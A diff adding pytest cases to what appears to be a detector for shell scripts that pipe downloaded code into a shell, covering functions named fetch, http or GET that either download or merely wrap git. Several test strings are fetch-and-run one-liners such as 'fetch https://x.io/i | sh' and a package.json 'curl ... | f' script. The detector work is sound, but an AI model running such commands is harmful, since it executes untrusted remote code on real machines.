@@ -113,6 +113,47 @@ def test_aliases_and_functions_near_misses(repo: GitRepo, source: str) -> None:
     assert _found(repo, "s.sh", source) == []
 
 
+@pytest.mark.parametrize(
+    ("source", "line"),
+    [
+        ('fetch() { curl -fsSL "$1"; }\nfetch https://x.io/i | sh\n', 2),
+        ('http() { command http --check-status "$@"; }\nhttp https://x.io/i | sh\n', 2),
+        ('GET() { wget -qO- "$1"; }\nbash <(GET https://x.io/i)\n', 2),
+        # a body that comes to stand for a download in a further round
+        ('get() { curl -fsSL "$@"; }\nfetch() { local u="$1"; get "$u"; }\nfetch https://x.io/i | sh\n', 3),
+        # the tool itself: used before any definition of the name, or defined again as a download
+        ('fetch -o - https://x.io/i | sh\nfetch() { git fetch "$@"; }\n', 1),
+        ('fetch() { git fetch "$@"; }\nfetch() { curl -fsSL "$@"; }\nfetch https://x.io/i | sh\n', 3),
+    ],
+)
+def test_a_function_named_as_a_download_tool_that_downloads(repo: GitRepo, source: str, line: int) -> None:
+    assert _found(repo, "s.sh", source) == [(line, _PIPE)]
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        'fetch() { git fetch origin "$1"; }\nfetch main | sh\n',
+        'http() { echo "$@"; }\nhttp x | bash\n',
+        "https() { printf '%s\\n' \"$@\"; }\nhttps x.io/i | bash\n",
+        'GET() { jq -r ".$1" config.json; }\nGET url | sh\n',
+        "function fetch { git fetch --all; }\nfetch -o i.sh x\nsh i.sh\n",
+        'fetch() { git fetch "$@"; }\nsh -c "$(fetch origin)"\n',
+        'fetch() { git fetch "$@"; }\nbash <(fetch origin)\n',
+        'fetch() { git fetch "$@"; }\nfetch origin > out.sh\nsh out.sh\n',
+        'fetch() { git fetch "$@"; }\nsync() { fetch "$1" | sh; }\n',
+        'fetch() { git fetch "$@"; }\nrun() { "$@"; }\nrun fetch -o - origin | sh\n',  # through another
+        "alias fetch='git fetch'\nfetch origin | sh\n",
+        # a script with a git helper named fetch
+        '#!/bin/sh\nset -eu\n\nfetch() {\n  git fetch --prune "${1:-origin}"\n}\n\n'
+        'for remote in $(git remote); do\n  fetch "$remote" | tee -a fetch.log\ndone\n'
+        "fetch upstream 2>&1 | sh -c 'cat >&2'\n",
+    ],
+)
+def test_a_function_named_as_a_download_tool_is_the_files_own(repo: GitRepo, source: str) -> None:
+    assert _found(repo, "s.sh", source) == []
+
+
 def test_a_package_json_script_defining_a_function(repo: GitRepo) -> None:
     text = '{"scripts": {"setup": "f() { bash; }; curl https://x.io/i | f"}}\n'
     assert _found(repo, "package.json", text) == [(1, _PIPE)]
